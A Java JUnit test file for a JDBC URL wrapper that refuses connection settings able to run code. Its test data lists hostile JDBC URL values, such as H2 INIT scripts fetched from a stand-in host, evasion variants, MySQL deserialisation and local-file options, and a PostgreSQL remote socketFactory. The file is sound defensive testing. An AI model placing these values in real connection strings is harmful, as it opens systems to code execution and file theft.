package dev.vantage.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.sql.SQLException;
import java.util.Properties;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class UnsafePropertiesTest {

    private static Properties properties(String... keysAndValues) {
        var properties = new Properties();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            properties.setProperty(keysAndValues[i], keysAndValues[i + 1]);
        }
        return properties;
    }

    private static void assertRefused(String url, Properties properties) {
        assertThatThrownBy(() -> ConnectionUrl.parse(url, properties))
                .isInstanceOfSatisfying(
                        SQLException.class, e -> assertThat(e.getSQLState()).isEqualTo("22023"))
                .hasMessageContaining("vantage.allowUnsafe");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:vantage:h2:mem:test;INIT=RUNSCRIPT FROM 'http://host/x.sql'",
                "jdbc:vantage:h2:mem:test;init = CREATE ALIAS x AS 'code'",
                "jdbc:vantage:h2:mem:test;I\\NIT=RUNSCRIPT FROM 'x'",
                "jdbc:vantage:h2:mem:test;\u0131n\u0131t=RUNSCRIPT FROM 'x'",
                "jdbc:vantage:h2:mem:test;INIT=\\;RUNSCRIPT FROM 'x'",
                "jdbc:vantage:h2:mem:test;INIT=,RUNSCRIPT FROM 'x'",
                "jdbc:vantage:mysql://h/d?allowLoadLocalInfile=true",
                "jdbc:vantage:mysql://h/d?a=b&%61utoDeserialize=yes",
                "jdbc:vantage:mysql://address=(host=h)(autoDeserialize=true)/d",
                "jdbc:vantage:mysql://(host=h,allowUrlInLocalInfile=true)/d",
                "jdbc:vantage:postgresql://h/d?socketFactory=org.Context&socketFactoryArg=http://host/x.xml",
                "jdbc:vantage:postgresql://h/d?user=me&SSLFactory=a.B",
                "jdbc:vantage:sqlserver://h;trustManagerClass=a.B",
                "jdbc:vantage:sqlite:x.sqlite?enable_load_extension=true",
                "jdbc:vantage:duckdb:a.duckdb;session_init_sql_file=/tmp/init.sql",
                "jdbc:vantage:duckdb:;threads=1; Session_Init_SQL_File = init.sql",
                "jdbc:vantage:sqlite::memory:?vantage.allowUnsafe=true"
            })
    void refusesAUrlThatMayRunCode(String url) {
        assertRefused(url, new Properties());
    }

    @Test
    void refusesThePropertyToo() {
        assertRefused("jdbc:vantage:postgresql://h/d", properties("socketFactory", "a.B"));
        assertRefused("jdbc:vantage:duckdb:", properties("session_init_sql_file", "init.sql"));
        assertRefused(
                "jdbc:vantage:sqlite::memory:?vantage.allowUnsafe=true", properties("enable_load_extension", "true"));
    }

    @Test
    void refusesAValueThatIsNoStringAndADefault() {
        var properties = new Properties(properties("allowLocalInfile", "true"));
        assertRefused("jdbc:vantage:mariadb://h/d", properties);
        var enabled = new Properties();
        enabled.put("autoDeserialize", true);
        assertRefused("jdbc:vantage:mysql://h/d", enabled);
    }

    @Test
    void takesItWhereTheProgramAllowsIt() throws SQLException {
        var url = ConnectionUrl.parse(
                "jdbc:vantage:postgresql://h/d?sslfactory=a.B", properties("vantage.allowUnsafe", "true"));
        assertThat(url.wrapped()).isEqualTo("jdbc:postgresql://h/d?sslfactory=a.B");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:vantage:mysql://h/d?allowLoadLocalInfile=false&autoDeserialize=no",
                "jdbc:vantage:sqlite:init/initial.sqlite?cache=shared",
                "jdbc:vantage:postgresql://h/init?sslmode=require&ApplicationName=init",
                "jdbc:vantage:h2:mem:init;MODE=PostgreSQL"
            })
    void takesEverythingElse(String url) throws SQLException {
        assertThat(ConnectionUrl.parse(url, new Properties()).wrapped()).startsWith("jdbc:");
    }
}
